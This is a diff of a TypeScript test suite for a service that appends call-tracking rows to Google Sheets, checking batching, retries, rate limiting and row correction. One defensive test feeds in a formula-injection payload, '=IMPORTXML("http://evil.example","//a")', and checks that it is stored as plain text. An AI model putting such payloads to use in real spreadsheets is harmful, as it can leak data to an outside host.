@@ -24,7 +24,7 @@ before(async () => {
 });
 after(() => room.close());
 beforeEach(async () => {
-  room.clock.ahead = 0;
+  room.clock.ahead = GATHERED; // what is told has waited for others as long as it must
   account = await openGoogleAccount(room.now);
   google = await openGoogleSheets(account);
   room.lead(TOKEN_ORIGIN, account.url);
@@ -43,10 +43,6 @@ const connect = (settings: Record<string, string> = {}) =>
     { spreadsheet: `https://docs.google.com/spreadsheets/d/${SPREADSHEET}/edit#gid=0`, columns: COLUMNS, ...settings },
     { secrets: { serviceAccount: SERVICE_ACCOUNT }, events: EVENTS },
   );
-const gathered = async (to: string, wanted: string[]) => {
-  room.clock.ahead += GATHERED;
-  await room.settled(to, wanted);
-};
 const rows = (title = 'Calls') => google.sheets.get(title) ?? [];
 const from = (campaign: string) => room.call({ visit: { source: { source: 'google', medium: 'cpc', campaign } } });
 const appends = () => google.asked.filter((what) => what === 'POST values:append').length;
@@ -55,7 +51,7 @@ test('calls become rows below headings, all that came together in one request', 
   const to = await connect();
   const [one, two] = [await from('roofs'), await from('walls')];
   await room.tell(room.event(one), room.event(two));
-  await gathered(to, ['done', 'done']);
+  await room.settled(to, ['done', 'done']);
   assert.deepEqual(rows()[0], ['Day', 'Phone', 'Talked', 'Campaign', 'Deal', 'Spam', 'Dialtrace ID']);
   assert.deepEqual(
     new Set(
@@ -72,14 +68,14 @@ test('judged anew, spam, a deal: the row is corrected where it stands now, and w
   const to = await connect();
   const [one, other] = [await from('roofs'), await from('doors')];
   await room.tell(room.event(one), room.event(other));
-  await gathered(to, ['done', 'done']);
+  await room.settled(to, ['done', 'done']);
   const sheet = rows();
   for (const row of sheet) row.unshift(row === sheet[0] ? 'Ours' : 'a note');
   sheet.splice(1, 2, ...sheet.slice(1).reverse()); // somebody sorts
   const visit = await addVisit(room.db, room.site, { at: new Date(Date.now() - 200_000) });
   const answer = answerOf([{ p: 0.9, ...visit, source: 'yandex', medium: 'cpc', campaign: 'windows' }]);
   await insertAttributions(room.db, [{ ...answer, callId: one, version: 2 }]);
-  await gathered(to, ['done', 'done', 'done']);
+  await room.settled(to, ['done', 'done', 'done']);
   const { way } = await room.wayOf(to);
   await way.takeDeals([
     {
@@ -87,10 +83,10 @@ test('judged anew, spam, a deal: the row is corrected where it stands now, and w
       ...{ amount: { minor: 1_250_050, currency: 'RUB' }, changedAt: room.now() },
     },
   ]);
-  await gathered(to, ['done', 'done', 'done', 'done']);
+  await room.settled(to, ['done', 'done', 'done', 'done']);
   await room.db.query("update calls set spam = true, spam_by = 'person' where id = $1", [one]);
   await room.tell(room.event(one, 'call.qualified', { about: { category: 'spam' } }));
-  await gathered(to, ['done', 'done', 'done', 'done', 'done']);
+  await room.settled(to, ['done', 'done', 'done', 'done', 'done']);
   const row = (id: string) =>
     rows()
       .filter((cells) => cells.includes(id))
@@ -106,7 +102,7 @@ for (const fate of ['lost', 'cut'] as const)
     google.next.append = fate;
     const ids = [await from('roofs'), await from('walls')];
     await room.tell(...ids.map((id) => room.event(id)));
-    await gathered(to, ['due: cut-off', 'due: cut-off']);
+    await room.settled(to, ['due: cut-off', 'due: cut-off']);
     room.clock.ahead += 10_000;
     await room.settled(to, ['due: looked-for-soon', 'due: looked-for-soon']); // it may still be on its way in at Google
     room.clock.ahead += 300_000;
@@ -120,7 +116,7 @@ test('a node that dies between the append and its record leaves no second row', 
   google.next.append = 'lost';
   const id = await from('roofs');
   await room.tell(room.event(id));
-  await gathered(to, ['due: cut-off']);
+  await room.settled(to, ['due: cut-off']);
   await room.db.query("update deliveries set state = 'sending' where destination_id = $1", [to]); // as it would be found
   await room.restart();
   room.clock.ahead += 600_000;
@@ -134,7 +130,7 @@ test('a search that fails is no "not found"', async () => {
   google.next.append = 'lost';
   const id = await from('roofs');
   await room.tell(room.event(id));
-  await gathered(to, ['due: cut-off']);
+  await room.settled(to, ['due: cut-off']);
   google.next.answer = { status: 500 };
   room.clock.ahead += 300_000;
   await room.settled(to, ['due: http-500']);
@@ -153,13 +149,13 @@ test('a row that somebody removed is not written again, nor one that stood beyon
   const to = await connect();
   const id = await from('roofs');
   await room.tell(room.event(id));
-  await gathered(to, ['done']);
+  await room.settled(to, ['done']);
   rows().splice(1, 1);
   await room.tell(room.event(id, 'call.attributed'));
-  await gathered(to, ['done', 'skipped: row-removed']);
+  await room.settled(to, ['done', 'skipped: row-removed']);
   await (await room.wayOf(to)).way.link('row', id, '70000');
   await room.tell(room.event(id, 'call.attributed', { key: 'again' }));
-  await gathered(to, ['done', 'skipped: row-removed', 'skipped: row-removed']);
+  await room.settled(to, ['done', 'skipped: row-removed', 'skipped: row-removed']);
 });
 
 test('Google that is asked too often is left alone as long as it says; a sheet that is not shared needs its owner', async () => {
@@ -171,7 +167,7 @@ test('Google that is asked too often is left alone as long as it says; a sheet t
     }),
   };
   await room.tell(room.event(await from('roofs')));
-  await gathered(to, ['due: http-429']);
+  await room.settled(to, ['due: http-429']);
   const { restsUntil } = (await findDestination(room.db, to)) ?? {};
   assert.ok((restsUntil?.getTime() ?? 0) - room.now().getTime() > 50_000);
   room.clock.ahead += 62_000;
@@ -185,7 +181,7 @@ test('Google that is asked too often is left alone as long as it says; a sheet t
 test('nothing that a caller or a page says becomes a formula, and the sheet makes itself, with Russian headings if wanted', async () => {
   const to = await connect({ columns: '', headings: 'ru', sheet: "Звонки '26" });
   await room.tell(room.event(await from('=IMPORTXML("http://evil.example","//a")')));
-  await gathered(to, ['done']);
+  await room.settled(to, ['done']);
   const [headings = [], row = []] = rows("Звонки '26");
   assert.equal(row[headings.indexOf('Кампания')], '=IMPORTXML("http://evil.example","//a")'); // RAW: text, as the far side checks
   assert.match(
@@ -208,7 +204,7 @@ test('a trial is a row of its own, marked as a test; a look shows what would be 
   );
   assert.equal((await room.trial({ destinationId: to, callId, dry: false }))?.outcome, 'done');
   await room.tell(room.event(callId));
-  await gathered(to, ['done']);
+  await room.settled(to, ['done']);
   assert.deepEqual(
     rows().map((cells) => cells.at(-1)),
     ['Dialtrace ID', 'test', callId],
@@ -219,7 +215,7 @@ test("Google's own client asks for the same", async () => {
   const to = await connect();
   google.sheets.set('Calls', [['Day', 'Phone', 'Talked', 'Campaign', 'Deal', 'Spam', 'Dialtrace ID']]);
   await room.tell(room.event(await from('roofs')));
-  await gathered(to, ['done']);
+  await room.settled(to, ['done']);
   const ours = google.got.find(({ path }) => path.includes('append'));
   const receiver = await openReceiver(() => ({ headers: { 'content-type': 'application/json' }, body: '{}' }));
   const client = sheetsClient({ version: 'v4', rootUrl: `${receiver.url}/` });
